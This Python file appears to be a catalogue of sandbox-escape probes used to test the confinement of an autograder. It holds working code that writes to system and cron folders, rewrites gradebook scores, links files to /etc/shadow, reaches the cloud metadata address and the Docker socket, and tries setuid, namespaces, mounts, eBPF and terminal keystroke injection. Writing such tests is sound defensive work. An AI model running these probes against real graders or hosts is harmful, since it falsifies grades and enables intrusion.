"""Reaching out of the sandbox: files, links, network, privileges, doors of the kernel."""

from ..entry import Entry

CALL = """
import ctypes, os, socket, subprocess
libc = ctypes.CDLL(None, use_errno=True)
"""

ENTRIES = [
    Entry(
        "files-outside",
        "Files are written into the home folder, the course, the folders of programs and of start-up files",
        """
import os, site, sys, sysconfig
HOMES = ["/root", "/etc", "/etc/cron.d", "/var/spool/cron", "/usr/local/bin", os.path.dirname(sys.executable)]
HOMES += ["$COURSE", "$COURSE/autograded", "$COURSE/submitted", "$COURSE/..", *site.getsitepackages()]
HOMES += [sysconfig.get_path("stdlib"), "/proc/sys/kernel", "/sys/kernel", "/sys/fs/cgroup", "/"]
for folder in HOMES:
    try:
        open(f"{folder}/$TOKEN", "w").close()
        gained = folder
    except OSError: pass
""",
    ),
    Entry(
        "gradebook-rewritten",
        "The gradebook's scores are set to their maxima",
        """
import sqlite3
gradebook = sqlite3.connect("file:$COURSE/gradebook.db?mode=rw", uri=True)
gained = gradebook.execute("UPDATE base_cell SET name = name || '$TOKEN'").rowcount
gradebook.execute("UPDATE grade_cells SET max_score = 1000")
gradebook.commit()
""",
    ),
    Entry(
        "gradebook-rewritten-at-exit",
        "A process that outlives the kernel sets the scores when they are written",
        """
import subprocess, sys
code = '''
import sqlite3, time
for _ in range(40):
    time.sleep(0.5)
    try:
        gradebook = sqlite3.connect("file:$COURSE/gradebook.db?mode=rw", uri=True)
        gradebook.execute("UPDATE grade SET auto_score = 8, needs_manual_grade = 0")
        gradebook.commit()
    except Exception: pass
'''
subprocess.Popen([sys.executable, "-c", code, "$TOKEN"], start_new_session=True)
""",
    ),
    Entry(
        "support-file-linked",
        "A support file is exchanged for a link to the gradebook, and one to the system's passwords",
        """
import os
for target in ("$COURSE/gradebook.db", "/etc/shadow"):
    os.remove("weights.csv")
    os.symlink(target, "weights.csv")
    try: gained = open("weights.csv", "rb").read()
    except OSError: pass
os.remove("weights.csv")
os.symlink("/proc/self/mem", "weights.csv")
""",
    ),
    Entry(
        "hard-linked",
        "Hard links to files outside are planted",
        """
import os
for target in ("$COURSE/gradebook.db", "/etc/passwd", "$COURSE/nbgrader_config.py"):
    try:
        os.link(target, f"link-{len(target)}")
        gained = target
    except OSError: pass
""",
    ),
    Entry(
        "root-of-others",
        "The file system as other processes see it is entered through /proc",
        """
import os
for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    for door in ("root", "cwd"):
        try: gained = globals().get("gained") or os.path.exists(f"/proc/{pid}/{door}$COURSE/gradebook.db")
        except OSError: pass
""",
    ),
    Entry(
        "examiners-code-changed",
        "Code of the modules that run, or their compiled copies, are overwritten",
        """
import os, sys
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if path.endswith(".py") and (os.access(path, os.W_OK) or os.access(os.path.dirname(path), os.W_OK)): gained = path
""",
    ),
    Entry(
        "tcp",
        "Hosts on this machine and outside are called",
        """
import socket
for address in (("127.0.0.1", $PORT), ("::1", $PORT), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, timeout=0.3).sendall(b"$TOKEN")
        gained = address
    except OSError: pass
""",
    ),
    Entry(
        "udp-and-names",
        "Datagrams and questions for names go out",
        """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
    for address in (("127.0.0.1", $PORT), ("1.1.1.1", 53)):
        try: datagram.sendto(b"$TOKEN", address)
        except OSError as error: print(error)
for path in ("/run/nscd/socket", "/var/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve"):
    with socket.socket(socket.AF_UNIX) as client:
        if client.connect_ex(path) == 0: gained = path
""",
    ),
    Entry(
        "sockets-to-the-host",
        "Families of sockets that no network namespace confines, and raw ones",
        """
import socket
for family, kind in ((socket.AF_VSOCK, socket.SOCK_STREAM), (socket.AF_PACKET, socket.SOCK_RAW), (38, 5)):
    try:
        with socket.socket(family, kind) as client: gained = client.family
    except OSError: pass
""",
    ),
    Entry(
        "files-of-sockets",
        "Services of the machine that listen on a file are called",
        """
import glob, socket
doors = ["/run/docker.sock", "/run/dbus/system_bus_socket", "$COURSE/../door", "/run/containerd/containerd.sock"]
for path in [*doors, *glob.glob("/tmp/*/*"), *glob.glob("/run/*/*.sock")]:
    with socket.socket(socket.AF_UNIX) as client:
        if len(path) < 107 and client.connect_ex(path) == 0: gained = path
""",
    ),
    Entry(
        "other-user",
        "The process asks to be root, by system calls and by programs that can",
        CALL
        + """
gained = 0 in (libc.setuid(0), libc.setresuid(0, 0, 0), libc.seteuid(0), libc.setgid(0), libc.setgroups(0, None))
for command in (["su", "-c", "true"], ["sudo", "-n", "true"], ["pkexec", "true"], ["newgrp"]):
    try: done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=2).returncode == 0
    except OSError: continue
    gained = gained or (done and command[0] != "newgrp" and os.geteuid() == 0)
gained = gained or any(line.startswith("NoNewPrivs:\\t0") for line in open("/proc/self/status"))
""",
        confined=True,
    ),
    Entry(
        "new-namespaces",
        "The process asks for namespaces of its own, where it would be root",
        CALL + "gained = any(libc.unshare(flag) == 0 for flag in (0x10000000, 0x20000, 0x40000000, 0x10020000))",
        confined=True,
    ),
    Entry(
        "mounts",
        "File systems are mounted, the root is changed, other namespaces are entered",
        CALL
        + """
gained = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.umount2(b"/proc", 2) == 0
gained = gained or libc.chroot(b"/tmp") == 0 or libc.syscall(155, b"/tmp", b"/tmp") == 0  # pivot_root
for pid in filter(str.isdigit, os.listdir("/proc")):
    for kind in ("mnt", "net", "user"):
        try: gained = gained or libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0) == 0
        except OSError: pass
""",
        confined=True,
    ),
    Entry(
        "keyring",
        "A key is left in the keyring of the user, where the next submission would find it",
        CALL
        + """
ADD_KEY, KEYCTL = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
for ring in (-4, -5, -3):  # of the user, of the user's session, of the session
    gained = globals().get("gained") or libc.syscall(ADD_KEY, b"user", b"$TOKEN", b"1", 1, ring) > 0
gained = gained or libc.syscall(KEYCTL, 0, -4, 1) > 0
""",
        confined=True,
    ),
    Entry(
        "kernel-programs",
        "The kernel is asked to run programs of the candidate's, and to hand over its page faults and counters",
        CALL
        + """
BPF, FAULT, PERF = (321, 323, 298) if os.uname().machine == "x86_64" else (280, 282, 241)
gained = libc.syscall(BPF, 0, ctypes.create_string_buffer(b"\\x02" + b"\\0" * 3 + b"\\x04" + b"\\0" * 120), 128) >= 0
gained = gained or libc.syscall(FAULT, 0) >= 0
gained = gained or libc.syscall(PERF, ctypes.create_string_buffer(128), 0, -1, -1, 0) >= 0
""",
        confined=True,
    ),
    Entry(
        "devices",
        "Disks, memory and terminals are opened, devices are made, keys are pushed into a terminal",
        CALL
        + """
import fcntl, glob
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm", *glob.glob("/dev/loop*")):
    try: gained = os.open(path, os.O_RDWR)
    except OSError: pass
try: gained = os.mknod("disk", 0o60666, os.makedev(254, 0)) is None
except OSError: pass
try: gained = fcntl.ioctl(0, 0x5412, b"x") == b""  # TIOCSTI
except OSError: pass
""",
        confined=True,
    ),
]
